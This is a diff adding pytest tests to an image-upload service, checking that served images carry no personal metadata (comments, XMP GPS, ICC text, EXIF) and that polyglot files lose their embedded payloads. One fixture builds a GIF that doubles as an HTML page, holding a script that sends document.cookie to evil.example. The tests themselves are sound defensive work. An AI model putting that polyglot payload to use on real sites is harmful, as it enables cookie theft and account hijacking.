@@ -297,3 +297,146 @@ def test_hostile_files_fail_their_job_with_a_clear_code(client, me, worker, data
     job, _ = process(client, me, data)
 
     assert_failed_for_its_input(client, job, code)
+
+
+# --- 3. no metadata in what is served ---------------------------------------------------------
+
+PERSONAL = "Jane Doe, Villa Kamboja, Ubud"
+XMP = (
+    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf'
+    b'-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
+    b'exif:GPSLatitude="8,30.0S" exif:GPSLongitude="115,15.0E"/></rdf:RDF></x:xmpmeta>'
+)
+
+
+def icc_profile(description: str, swap_red_and_blue: bool = False) -> bytes:
+    """littleCMS's sRGB profile with its description replaced (same length, UTF-16), and
+    optionally its red and blue colorants swapped (so converting turns red into blue)."""
+    from PIL import ImageCms
+
+    data = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
+    old = "sRGB built-in".encode("utf-16-be")
+    new = description[:13].ljust(13).encode("utf-16-be")
+    data[data.index(old) : data.index(old) + len(old)] = new
+    if swap_red_and_blue:
+        table = {bytes(data[132 + 12 * i : 136 + 12 * i]): 136 + 12 * i for i in range(20)}
+        red, blue = table[b"rXYZ"], table[b"bXYZ"]
+        data[red : red + 4], data[blue : blue + 4] = data[blue : blue + 4], data[red : red + 4]
+    return bytes(data)
+
+
+def assert_nothing_personal(data: bytes) -> None:
+    image = Image.open(io.BytesIO(data))
+    assert not {"comment", "xmp", "icc_profile", "exif"} & set(image.info), image.info
+    for secret in (PERSONAL[:8].encode(), "Jane Doe".encode("utf-16-be"), b"GPSLatitude"):
+        assert secret not in data
+
+
+def test_jpeg_comment_is_not_served(app, client, me, worker):
+    buffer = io.BytesIO()
+    Image.new("RGB", (600, 400), (200, 120, 40)).save(
+        buffer,
+        "JPEG",
+        comment=PERSONAL.encode(),
+        xmp=XMP,
+        icc_profile=icc_profile("Jane Doe Ubud"),
+    )
+    photo = buffer.getvalue()
+    assert Image.open(io.BytesIO(photo)).info["comment"] == PERSONAL.encode()
+
+    job, media = process(client, me, photo)
+
+    assert job["status"] == "succeeded"
+    files = served_files(app, media)
+    assert len(files) == 7  # the original and six variants
+    for data in files:
+        assert_nothing_personal(data)
+
+
+def gif_with_comments(frames: int) -> bytes:
+    images = []
+    for index in range(frames):
+        frame = Image.new("P", (40, 30), index % 3)
+        frame.putpalette([230, 40, 40, 40, 200, 60, 30, 60, 220] + [0] * 759)
+        frame.info["comment"] = f"{PERSONAL} (frame {index})".encode()
+        images.append(frame)
+    buffer = io.BytesIO()
+    images[0].save(buffer, "GIF", save_all=True, append_images=images[1:], duration=40)
+    return buffer.getvalue()
+
+
+def png_with_metadata() -> bytes:
+    from PIL import PngImagePlugin
+
+    text = PngImagePlugin.PngInfo()
+    text.add_text("Author", PERSONAL)
+    text.add_itxt("XML:com.adobe.xmp", XMP.decode())
+    exif = Image.Exif()
+    exif.get_ifd(0x8825).update({1: "S", 2: (8.0, 30.0, 0.0), 3: "E", 4: (115.0, 15.0, 0.0)})
+    buffer = io.BytesIO()
+    Image.new("RGBA", (300, 200), (0, 128, 255, 200)).save(
+        buffer, "PNG", pnginfo=text, exif=exif, icc_profile=icc_profile("Jane Doe Ubud")
+    )
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize(
+    "make",
+    [lambda: gif_with_comments(1), lambda: gif_with_comments(3), png_with_metadata],
+    ids=["gif", "animated-gif", "png-with-icc-text-xmp-exif"],
+)
+def test_gif_comment_and_png_metadata_are_not_served(app, client, me, worker, make):
+    data = make()
+    assert PERSONAL[:8].encode() in data or "Jane Doe".encode("utf-16-be") in data
+
+    job, media = process(client, me, data, filename="x.png", mimetype="image/png")
+
+    assert job["status"] == "succeeded"
+    for served in served_files(app, media):
+        assert_nothing_personal(served)
+
+
+def test_icc_profile_is_applied_then_dropped(app, client, me, worker):
+    """A profile whose red is blue: served pixels are converted to sRGB (blue), untagged."""
+    buffer = io.BytesIO()
+    Image.new("RGB", (200, 200), (255, 0, 0)).save(
+        buffer, "PNG", icc_profile=icc_profile("Swapped", swap_red_and_blue=True)
+    )
+
+    job, media = process(client, me, buffer.getvalue(), filename="x.png")
+
+    assert job["status"] == "succeeded"
+    for served in served_files(app, media):
+        image = Image.open(io.BytesIO(served))
+        assert "icc_profile" not in image.info
+        red, _green, blue = image.convert("RGB").getpixel((100, 100))
+        assert blue > 200, (red, blue)
+        assert red < 60, (red, blue)
+
+
+def gif_html_polyglot() -> bytes:
+    """A real GIF that is also a web page: a script in a comment, HTML after the trailer."""
+    script = b"<script>fetch('//evil.example/'+document.cookie)</script>"
+    gif = gif_with_comments(1)
+    comment = b"\x21\xfe" + bytes([len(script)]) + script + b"\x00"
+    at = 13 + (3 << ((gif[10] & 7) + 1))  # after the header and global palette
+    return gif[:at] + comment + gif[at:] + b"<html><body>" + script + b"</body></html>"
+
+
+@pytest.mark.parametrize(
+    ("data", "payloads"),
+    [
+        (gif_html_polyglot(), [b"<script", b"<html"]),
+        (jpeg_with_exif(300, 200) + zip_file(), [b"PK\x03\x04", b"payload.html", b"<script"]),
+    ],
+    ids=["gif-that-is-also-html", "jpeg-with-a-zip-appended"],
+)
+def test_polyglots_are_served_without_their_payload(app, client, me, worker, data, payloads):
+    assert Image.open(io.BytesIO(data)).size  # a real image, which still decodes
+
+    job, media = process(client, me, data)
+
+    assert job["status"] == "succeeded"
+    for served in served_files(app, media):
+        for payload in payloads:
+            assert payload not in served
